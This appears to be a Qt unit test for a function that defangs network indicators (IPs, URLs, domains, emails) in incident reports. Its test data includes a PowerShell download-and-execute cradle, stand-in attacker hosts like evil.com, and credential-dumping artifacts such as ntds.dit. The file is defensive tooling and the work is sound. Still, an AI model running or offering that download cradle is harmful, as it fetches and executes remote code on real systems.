// SPDX-License-Identifier: GPL-3.0-or-later
#include <jupiter/reports/case_report.h>

#include <QtTest/QtTest>

using jupiter::reports::defanged;

class DefangTest : public QObject {
    Q_OBJECT

private Q_SLOTS:
    void addressesCannotBeFollowed_data()
    {
        QTest::addColumn<QString>("text");
        QTest::addColumn<QString>("safe");
        const auto row = [](const char *text, const char *safe) {
            QTest::newRow(text) << QString::fromUtf8(text) << QString::fromUtf8(safe);
        };
        row("10.0.0.5", "10[.]0[.]0[.]5");
        row("10.0.0.5:8443", "10[.]0[.]0[.]5:8443");
        row("10.0.0.0/8", "10[.]0[.]0[.]0/8");
        row("http://a.b", "hxxp://a[.]b");
        row("https://a.b:8443/x.exe?y=c.d", "hxxps://a[.]b:8443/x.exe?y=c.d");
        row("HTTP://A.B/", "hxxp://A[.]B/");
        row("ftp://files.example/x", "fxp://files[.]example/x");
        row("updates.evil.example", "updates[.]evil[.]example");
        row("EVIL.COM.", "EVIL[.]COM.");
        row("xn--e1afmkfd.xn--p1ai", "xn--e1afmkfd[.]xn--p1ai");
        row("anna@evil.example", "anna[@]evil[.]example");
        row("2001:db8::1", "2001[:]db8[:][:]1");
        row("fe80::", "fe80[:][:]");
        row("from 172.16.144.128, then (evil.com).", "from 172[.]16[.]144[.]128, then (evil[.]com).");
        row("IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.5/a.ps1')",
            "IEX (New-Object Net.WebClient).DownloadString('hxxp://10[.]0[.]0[.]5/a.ps1')");
        row("url=http://a.b", "url=hxxp://a[.]b");
    }

    void addressesCannotBeFollowed()
    {
        QFETCH(QString, text);
        QFETCH(QString, safe);
        QCOMPARE(defanged(text), safe);
        QCOMPARE(defanged(safe), safe); // twice is once
    }

    void textWithoutAnAddressStays_data()
    {
        QTest::addColumn<QString>("text");
        for (const char *text : {"",
                                 ".",
                                 "...",
                                 "cmd.exe /c whoami",
                                 "C:\\temp\\ntds.dit",
                                 "C:\\temp\\evil.com",
                                 "DC1-Security.evtx #4711",
                                 "19:37:11",
                                 "System.Net.WebClient",
                                 "version 10.0.17763.1",
                                 "1.2.3",
                                 "256.1.1.1",
                                 "run.sh and setup.py",
                                 "e.g. this",
                                 "a..b.com",
                                 "EXAMPLE\\admin01",
                                 "::",
                                 "T1003.001",
                                 "host-without-dots",
                                 "ünïcode",
                                 "://x",
                                 "@evil.example"})
            QTest::newRow(text) << QString::fromUtf8(text);
    }

    void textWithoutAnAddressStays()
    {
        QFETCH(QString, text);
        QCOMPARE(defanged(text), text);
    }
};

QTEST_GUILESS_MAIN(DefangTest)
#include "defang_test.moc"
